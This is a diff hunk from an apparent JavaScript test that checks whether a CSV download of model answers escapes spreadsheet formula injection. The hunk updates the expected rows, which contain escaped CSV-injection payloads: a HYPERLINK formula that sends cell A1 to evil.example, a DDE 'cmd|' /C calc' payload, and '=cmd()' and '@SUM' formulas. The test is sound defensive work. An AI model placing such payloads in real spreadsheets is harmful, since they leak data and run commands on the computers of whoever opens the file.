@@ -90,9 +90,9 @@ test('the CSV download quotes every cell and runs no formula a model answered', 
     const csv = await (await download.createReadStream()).toArray().then((parts) => Buffer.concat(parts).toString('utf8'));
     const rows = csv.split('\r\n');
     assert.equal(rows.length, 4, 'a header and three runs, a CR inside a cell ending no row');
-    assert.equal(rows[1], `'=cmd(),"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",false,1,2,0.001,10,"line one\rline two",'+1+cmd|' /C calc'!A0`);
-    assert.equal(rows[2], `'=cmd(),m/two,true,2,2,0.002,20,'-2+3,"'@SUM(1,2)"`);
-    assert.equal(rows[3], `'=cmd(),m/one,true,2,2,0.003,30,,'\t=1+1`);
+    assert.equal(rows[1], `'=cmd(),"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",1,false,1,2,0.001,10,"line one\rline two",'+1+cmd|' /C calc'!A0`);
+    assert.equal(rows[2], `'=cmd(),m/two,1,true,2,2,0.002,20,'-2+3,"'@SUM(1,2)"`);
+    assert.equal(rows[3], `'=cmd(),m/one,1,true,2,2,0.003,30,,'\t=1+1`);
     for (const row of rows.slice(1)) {
       for (const cell of row.match(/("([^"]|"")*"|[^,]*)(,|$)/g).map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''))) {
         assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `no cell starts a formula: ${JSON.stringify(cell)}`);
